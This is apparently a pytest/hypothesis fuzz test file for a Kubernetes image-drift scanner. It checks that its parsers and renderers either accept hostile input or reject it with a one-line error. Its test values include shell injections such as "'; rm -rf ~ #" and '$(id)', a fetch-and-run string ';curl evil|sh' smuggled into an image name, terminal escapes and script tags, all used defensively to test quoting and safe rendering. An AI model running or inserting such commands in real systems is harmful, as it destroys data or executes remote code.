"""Hostile values at every parser entry point: the project's own errors, or a result.

Property-based (hypothesis): dumps and manifests with any field replaced by a hostile
value (rich markup, terminal escapes, Unicode digits, 5,000-digit numbers, lone
surrogates, shell metacharacters, wrong types), raw YAML/JSON text, kubeconfigs, image
references, imageIDs, saved reports, and the registry's headers and config files. Each
either parses — and then renders in every format — or raises ``errors.DriftscanError``
with a one-line message. Anything else (a ``TypeError``, a ``MarkupError``, a
``UnicodeEncodeError``) fails the property.
"""

from __future__ import annotations

import copy
import dataclasses
import io
import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.console import Console

from scanner import (
    cli,
    decoding,
    detectors,
    errors,
    exits,
    findings,
    graph,
    images,
    manifest_scanning,
)
from scanner.oci import credentials, headers
from scanner.report import (
    building,
    html,
    integrity,
    json_format,
    junit,
    sarif,
    saved_report,
    terminal,
)
from scanner.sources import dump, manifests
from tests.unit import helpers

DUMP = helpers.FIXTURES / "digest-drift" / "fires-repushed-tag.json"
MANIFESTS = sorted((helpers.FIXTURES / "manifests" / "shop").glob("*.yaml"))
HUGE = "__HUGE_NUMBER__"
"""Stands for a 5,000-digit integer, written unquoted into the JSON text."""

HOSTILE_STRINGS = [
    "[/]", "[/bold]", "[bold red]x", "[link=https://evil.example]click[/link]",
    "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "a\rb", "line\nbreak", "\u202egnp.exe", "\x00",
    "²", "٣", "1" * 5000, "-1", "0x1f", "1e999", "NaN", "$(id)", "`id`", "'; rm -rf ~ #",
    'a"b', "a\\b", "", " ", "\ud800", "sha256:<script>", "<script>alert(1)</script>",
    "sha256:" + "g" * 64, "app@sha256:" + "a" * 64, "a" * 300, "ünïcödé/ïmage:täg",
]


def scalars() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.sampled_from(HOSTILE_STRINGS), st.text(max_size=40), st.none(), st.booleans(),
        st.integers(), st.floats(allow_nan=False), st.just(HUGE),
        st.sampled_from([[], {}, [None], {"": None}, ["[/]"], {"[/]": "[/]"}]),
    )


def values() -> st.SearchStrategy[Any]:
    return st.recursive(scalars(), lambda inner: st.one_of(
        st.lists(inner, max_size=3),
        st.dictionaries(st.sampled_from(["name", "image", "env", "kind", "metadata", "spec",
                                         "value", "items", "[/]", "\x1b"]), inner, max_size=3),
    ), max_leaves=6)


@st.composite
def mutated(draw: st.DrawFn, base: Any, edits: int = 3) -> Any:
    """``base`` with up to ``edits`` values, anywhere in it, replaced by hostile ones."""
    doc = copy.deepcopy(base)
    for _ in range(draw(st.integers(1, edits))):
        node = doc
        while True:
            children = (list(node) if isinstance(node, dict)
                        else list(range(len(node))) if isinstance(node, list) else [])
            if not children:
                break
            key = draw(st.sampled_from(children))
            child = node[key]
            if not isinstance(child, dict | list) or not child or draw(st.booleans()) and \
                    draw(st.booleans()):
                node[key] = draw(values())
                break
            node = child
    return doc


def as_json(doc: Any) -> str:
    return json.dumps(doc).replace(json.dumps(HUGE), "9" * 5000)


def one_line(e: errors.DriftscanError) -> None:
    assert "\n" not in e.message and e.message
    assert "Traceback" not in e.message


def render_everywhere(snapshot: Any) -> None:
    g = graph.build(snapshot)
    report = building.build(snapshot, g, detectors.detect(snapshot, g), detectors.RULES)
    buffer = io.StringIO()
    terminal.render(report, Console(file=buffer, width=100, color_system="truecolor"))
    assert "\x1b]" not in buffer.getvalue()  # no OSC (title, hyperlink) sequence got through
    for text in (json_format.render(report), html.render(report),
                 sarif.render(sarif.from_report(report)),
                 junit.render(report, findings.Severity.HIGH)):
        text.encode("utf-8")  # a lone surrogate would fail every writer here


SETTINGS = settings(max_examples=100, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@SETTINGS
@given(mutated(helpers.raw(DUMP)))
def test_any_dump_parses_or_is_refused_in_one_line(doc: Any) -> None:
    try:
        snapshot = dump.load_texts([("dump.json", as_json(doc))])
    except errors.DriftscanError as e:
        one_line(e)
        return
    render_everywhere(snapshot)


def _manifest_docs() -> list[tuple[str, list[Any]]]:
    return [(p.name, [d for _, d in decoding.yaml_documents(p.read_text())]) for p in MANIFESTS]


@SETTINGS
@given(st.sampled_from(_manifest_docs()).flatmap(
    lambda item: st.tuples(st.just(item[0]), mutated(item[1]))))
def test_any_manifest_parses_or_is_refused_in_one_line(named: tuple[str, list[Any]]) -> None:
    name, docs = named
    text = "\n---\n".join(as_json(d) for d in docs)  # JSON is YAML: one stream of documents
    try:
        loaded = manifests.load_texts([(name, None, text)])
        report = manifest_scanning.check(loaded)
    except errors.DriftscanError as e:
        one_line(e)
        return
    for problem in (p for f in loaded for p in f.problems):
        assert "\n" not in problem.reason
    from scanner.report import manifest_report

    buffer = io.StringIO()
    manifest_report.render_table(report, Console(file=buffer, width=100))
    manifest_report.render_json(report).encode("utf-8")


@SETTINGS
@given(st.text(alphabet=st.sampled_from(list("{}[]:,-&*!|>'\"#%@` \n\t\\uU0123aé²\x1b")),
               max_size=80))
def test_any_yaml_or_json_text_decodes_or_is_a_problem(text: str) -> None:
    for decode in (decoding.json_value, lambda t: list(decoding.yaml_documents(t))):
        try:
            decode(text)
        except decoding.Problem as p:
            assert "\n" not in p.message


@SETTINGS
@given(values())
def test_any_kubeconfig_is_refused_in_kubeconfig_terms(tmp_path_factory: Any,
                                                       value: Any) -> None:
    from scanner.sources import kubeconfig

    path = tmp_path_factory.mktemp("kc") / "config"
    path.write_text(as_json(value))
    try:
        kubeconfig.endpoint(str(path), None)
    except kubeconfig.Delegated:
        pass  # an exec/auth-provider user: the client library's business
    except errors.DriftscanError as e:
        assert "\n" not in e.message and "kubeconfig" in e.message


@SETTINGS
@given(st.one_of(st.sampled_from(HOSTILE_STRINGS), st.text(max_size=60),
                 st.text(alphabet=st.sampled_from(list("a:/@._-[]1 sha256")), max_size=60)))
def test_image_references_and_image_ids(text: str) -> None:
    try:
        images.parse(text)
    except errors.DriftscanError as e:
        one_line(e)
    images.try_parse(text)
    images.parse_image_id(text)


@SETTINGS
@given(values())
def test_any_saved_report_loads_or_is_refused(value: Any) -> None:
    try:
        saved_report.from_data(value)
    except errors.DriftscanError as e:
        assert e.message


@SETTINGS
@given(st.one_of(st.sampled_from(HOSTILE_STRINGS), st.text(max_size=80),
                 st.text(alphabet=st.sampled_from(list('Bearer Basic realm="=,\\ <>;rel')),
                         max_size=80)))
def test_registry_headers_parse_or_are_ignored(value: str) -> None:
    for challenge in headers.parse_www_authenticate(value):
        assert challenge.scheme == challenge.scheme.lower()
    headers.parse_link_header(value)
    headers.next_link(value)


@SETTINGS
@given(st.one_of(st.binary(max_size=200), values().map(lambda v: as_json(v).encode())),
       st.one_of(st.sampled_from(HOSTILE_STRINGS), st.text(max_size=30)))
def test_registry_bodies_and_header_values(body: bytes, header: str) -> None:
    from scanner.oci import client as oci_client
    from scanner.oci import names, transport

    doc = transport.json_object(body)
    assert isinstance(doc, dict)
    oci_client.Manifest(names.OCI_INDEX, body, names.digest_of(body)).json()
    length = transport.content_length(header)
    assert length is None or (header.strip().isdigit() and length >= 0)
    if names.is_content_digest(header):
        assert header.startswith(("sha256:", "sha512:"))
        assert not names.matches(header, body) or names.digest_of(body) == header \
            or header.startswith("sha512:")
    transport.may_carry_credentials(header)


@SETTINGS
@given(values())
def test_any_docker_config_parses_or_is_refused(value: Any) -> None:
    try:
        credentials.parse_docker_config(as_json(value))
    except errors.DriftscanError as e:
        one_line(e)


# --- regression tests: each input below crashed driftscan before -------------------------


def _dump_with(mutate: Any) -> str:
    doc = helpers.raw(DUMP)
    mutate(doc)
    return as_json(doc)


def _first(doc: dict[str, Any], kind: str) -> dict[str, Any]:
    return next(i for i in doc["items"] if i["kind"] == kind)


@pytest.mark.parametrize("revision", ["²", "1" * 4301, "٣", "-1", "1.0", " 2"])
def test_a_strange_revision_annotation_is_not_a_number(revision: str) -> None:
    def annotate(doc: dict[str, Any]) -> None:
        for item in doc["items"]:
            if item["kind"] in ("Deployment", "ReplicaSet"):
                item["metadata"].setdefault("annotations", {})[
                    "deployment.kubernetes.io/revision"] = revision

    snapshot = dump.load_texts([("d.json", _dump_with(annotate))])
    assert [w.revision for w in snapshot.workloads if w.kind == "Deployment"] == [None] * len(
        [w for w in snapshot.workloads if w.kind == "Deployment"])
    assert {r.number for r in snapshot.revisions if r.kind == "ReplicaSet"} == {None}


@pytest.mark.parametrize("text", ['{"kind": "List", "items": [], "n": ' + "7" * 5000 + "}",
                                  "kind: List\nitems: []\nn: " + "7" * 5000 + "\n"])
def test_a_5000_digit_number_is_refused_in_one_line(text: str) -> None:
    with pytest.raises(errors.InputError, match="more than 4,300 digits") as info:
        dump.load_texts([("big", text)])
    one_line(info.value)
    (file,) = manifests.load_texts([("big.yaml", None, text)])  # listed, never checked
    assert any("more than 4,300 digits" in p.reason for p in file.problems)


def test_a_number_beyond_64_bits_is_written_and_sealed(tmp_path: Path) -> None:
    # YAML keeps any integer; orjson writes none past 64 bits: the standard library does.
    doc = helpers.raw(helpers.FIXTURES / "partitioned-update" / "fires-partition.json")
    for item in doc["items"]:
        if item["kind"] == "StatefulSet":
            item["spec"]["replicas"] = 2**70
    dumped = tmp_path / "big.yaml"
    dumped.write_text(yaml.safe_dump(doc))
    out = tmp_path / "report.json"
    code = cli.main(["scan", "--from", str(dumped), "--format", "json", "-o", str(out)])
    assert code in (exits.CLEAN, exits.FINDINGS)
    data = json.loads(out.read_text())
    assert str(2**70) in out.read_text()
    assert integrity.verify(data).ok
    assert json_format.render(saved_report.from_data(data)).encode() == out.read_bytes()


@pytest.mark.parametrize(("field", "value"), [("env", 5), ("command", 7), ("env", 1.5),
                                              ("args", "x"), ("env", {"a": 1})])
def test_non_list_env_command_args_do_not_crash(field: str, value: Any) -> None:
    def spoil(doc: dict[str, Any]) -> None:
        for kind in ("Pod", "Deployment"):
            item = _first(doc, kind)
            spec = item["spec"] if kind == "Pod" else item["spec"]["template"]["spec"]
            spec["containers"][0][field] = value

    render_everywhere(dump.load_texts([("d.json", _dump_with(spoil))]))


@pytest.mark.parametrize("kind", [["List"], {"a": 1}, 5])
def test_a_kind_that_is_not_a_string_is_refused(kind: Any) -> None:
    text = json.dumps({"apiVersion": "v1", "kind": kind, "items": []})
    with pytest.raises(errors.InputError) as info:
        dump.load_texts([("d.json", text)])
    one_line(info.value)
    text = json.dumps({"apiVersion": "apps/v1", "kind": kind, "metadata": {"name": "x"}})
    (file,) = manifests.load_texts([("m.yaml", None, text)])
    assert [p.reason for p in file.problems] == ["kind is not a string"]


def test_lone_surrogates_are_refused_in_one_line() -> None:
    # A lone UTF-16 surrogate decodes to a str no UTF-8 writer accepts: refused at the door
    # (orjson and the YAML reader both refuse the escape), never passed on to a renderer.
    def spoil(doc: dict[str, Any]) -> None:
        _first(doc, "Pod")["metadata"]["labels"] = {"app": "\ud800x"}

    text = _dump_with(spoil)
    assert "\\ud800" in text
    with pytest.raises(errors.InputError) as info:
        dump.load_texts([("d.json", text)])
    one_line(info.value)
    with pytest.raises(decoding.Problem):
        list(decoding.yaml_documents('a: "\\ud800"\n'))


def test_markup_and_escapes_from_the_cluster_are_shown_inert() -> None:
    from scanner import model
    from scanner.report import document as report_model

    def spoil(doc: dict[str, Any]) -> None:
        for item in doc["items"]:
            if item["kind"] in ("Deployment", "ReplicaSet", "Pod"):
                item["metadata"]["namespace"] = "shop[/bold]"

    snapshot = dump.load_texts([("d.json", _dump_with(spoil))])
    gap = model.Gap("Pod", "x[/]", "forbidden: [/] [link=https://evil.example]x[/link]"
                    " \x1b]8;;https://evil.example\x07click\x1b[31m")
    snapshot = dataclasses.replace(snapshot, gaps=(gap,))
    g = graph.build(snapshot)
    report: report_model.Report = building.build(snapshot, g, detectors.detect(snapshot, g),
                                                 detectors.RULES)
    buffer = io.StringIO()
    terminal.render(report, Console(file=buffer, width=300, color_system="truecolor"))
    out = buffer.getvalue()
    assert "[/]" in out and "[link=https://evil.example]x[/link]" in out
    assert "shop[/bold]" in out
    assert "\x1b]" not in out and "\\x1b]8;;https://evil.example\\x07click\\x1b[31m" in out


@pytest.mark.parametrize("name", ["web;rm -rf ~", "$(id)", "a b"])
def test_kubectl_fix_commands_are_shell_quoted(name: str) -> None:
    import shlex

    from scanner import model
    from scanner.detectors import common

    digest = "sha256:" + "a" * 64
    image = f"reg.example/app:1 ;curl evil|sh #{name}"
    pin = common.pin_for(model.WorkloadRef("Deployment", f"ns{name}", name), f"c{name}",
                         image, digest)
    assert pin is not None and pin.command is not None
    assert shlex.split(pin.command) == [
        "kubectl", "set", "image", f"deployment/{name}", "-n", f"ns{name}",
        f"c{name}={image}@{digest}"]


def _scan(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    from scanner import cli

    code = cli.main(args)
    out, err = capsys.readouterr()
    return code, out, err


class _Stdin:
    def __init__(self, data: bytes) -> None:
        self.buffer = io.BytesIO(data)


@pytest.mark.parametrize("command", [["scan", "--from", "-"], ["manifests", "-"]])
def test_non_utf8_stdin_is_one_error(command: list[str], monkeypatch: pytest.MonkeyPatch,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr("sys.stdin", _Stdin(b"kind: Pod\nmetadata: {name: \xff\xfe}\n"))
    code, _, err = _scan(command, capsys)
    assert code == 2
    assert err.startswith("error: ") and "not UTF-8" in err and "Traceback" not in err


@pytest.mark.parametrize("command", [["scan", "--from", "/dev/zero"],
                                     ["manifests", "/dev/zero"]])
def test_endless_input_is_refused_while_reading(command: list[str],
                                                capsys: pytest.CaptureFixture[str]) -> None:
    if not Path("/dev/zero").exists():
        pytest.skip("no /dev/zero")
    code, _, err = _scan(command, capsys)
    assert code == 2 and "Traceback" not in err and err.startswith("error: ")


def test_input_cap_is_checked_while_reading(monkeypatch: pytest.MonkeyPatch,
                                            tmp_path: Path) -> None:
    from scanner import reading

    reads: list[int] = []

    class Endless(io.RawIOBase):
        def readable(self) -> bool:
            return True

        def readinto(self, b: Any) -> int:
            reads.append(len(b))
            b[:] = b"a" * len(b)
            return len(b)

    with pytest.raises(reading.Refused, match="larger than"):
        reading._read(io.BufferedReader(Endless()), 3 * reading.CHUNK)
    assert len(reads) < 10
